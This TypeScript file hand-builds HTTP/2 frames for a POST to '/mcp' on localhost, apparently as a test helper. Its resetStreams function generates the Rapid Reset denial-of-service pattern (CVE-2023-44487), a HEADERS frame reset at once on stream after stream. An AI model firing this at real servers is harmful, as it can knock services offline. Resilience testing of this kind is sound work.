/** Frames of HTTP/2 (RFC 9113) by hand, for what no client sends. */

export const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9] as const;
export const [END_STREAM, END_HEADERS] = [1, 4] as const;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

export const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};

/** A field that is not indexed. */
export const literal = (name: string, value: string): Buffer =>
  Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);

/** The fields of a request for `/mcp`. */
export const REQUEST = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'https'),
  literal(':path', '/mcp'),
  literal(':authority', '127.0.0.1'),
  literal('content-type', 'application/json'),
  literal('accept', '*/*'),
]);

const CANCEL = Buffer.from([0, 0, 0, 8]);

/** The beginning of a session. */
export const OPENING = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]);

/** Requests on so many streams from `first` on, each reset at once (CVE-2023-44487). */
export const resetStreams = (first: number, count: number): Buffer =>
  Buffer.concat(
    Array.from({ length: count }, (_, at) => first + 2 * at).flatMap((stream) => [
      frame(HEADERS, END_HEADERS, stream, REQUEST),
      frame(RST_STREAM, 0, stream, CANCEL),
    ]),
  );
